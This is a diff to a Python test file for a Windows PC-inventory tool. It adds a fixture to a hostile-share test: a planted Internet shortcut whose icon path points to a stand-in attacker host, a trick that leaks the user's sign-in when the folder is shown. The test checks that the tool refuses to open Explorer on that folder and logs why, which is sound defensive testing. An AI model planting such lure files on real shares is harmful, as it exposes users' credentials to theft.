@@ -9,7 +9,9 @@ the set-aside name too long. The whole run (the registry scan through the
 stand-ins for the task scheduler and the elevation prompt) must still reach
 its success notice, run nothing planted, deliver this run's report, keep the
 planted CSV under another name, and write no batch file or dump to the
-share at any time.
+share at any time. A planted Internet shortcut whose icon lies on another
+computer keeps Explorer from being opened on SAVE (drawing it would send the
+user's sign-in there), with an Error.Log entry saying so.
 
 And a colleague who keeps another name of a user's earlier report (a hard
 link stands in for a handle held open): the user's second run of the same PC
@@ -34,6 +36,9 @@ LONG_NAME = "X" * 300
 PLANTED_CSV = ("Key,Group,Item,SubItem,Contents,Unit,Renewalday\r\n"
                f"abc-05-0012,LAN,LAN,コンピュータ名,{LONG_NAME},,2026/12/01\r\n"
                "abc-05-0012,WMI,MotherBoard,Device_ID,{PLANTED},,2026/12/01\r\n").encode("cp932")
+LURE = b"[InternetShortcut]\r\nURL=https://example.invalid/\r\nIconFile=\\\\attacker.invalid\\icons\\a.ico\r\nIconIndex=0\r\n"
+LURE_ENTRY = ("保存先フォルダーに、表示すると別のコンピューターへ接続するおそれのあるファイル (ショートカットなど) があるため、"
+              "フォルダーを開きませんでした。")
 # "前回 2026-12-01 " is 14 characters; the name fills the rest of the 56.
 SET_ASIDE = "abc-05-0012 (前回 2026-12-01 " + "X" * 42 + ").csv"
 
@@ -49,6 +54,7 @@ def plant(s, tools):
         for name in BATCH_FILES:
             planted[save / f"{PC}-{n}" / name] = PLANTED_BATCH
     planted[save / "abc-05-0012.csv"] = PLANTED_CSV
+    planted[save / "お知らせ.url"] = LURE
     for path, data in planted.items():
         path.parent.mkdir(parents=True, exist_ok=True)
         path.write_bytes(data)
@@ -95,9 +101,11 @@ class HostileShare(unittest.TestCase):
             ending = runs.wait_final_notice(s, process)
             watch.done.set()
             self.assertEqual(ending.message, runs.SUCCESS)
+            self.assertEqual(ending.explorers, [], "Explorer was opened on a folder holding a lure")
             runs.dismiss_final_notice(s)
             self.assertEqual(process.wait(60), 0)
             watch.join(5)
+            self.assertIn(["Main", LURE_ENTRY], [[e[2], e[10]] for e in runs.error_log_entries(tools)])
 
             self.assertEqual(sorted(str(p.relative_to(tools)) for p in tools.rglob("*.ran")), [],
                              "a planted program ran")
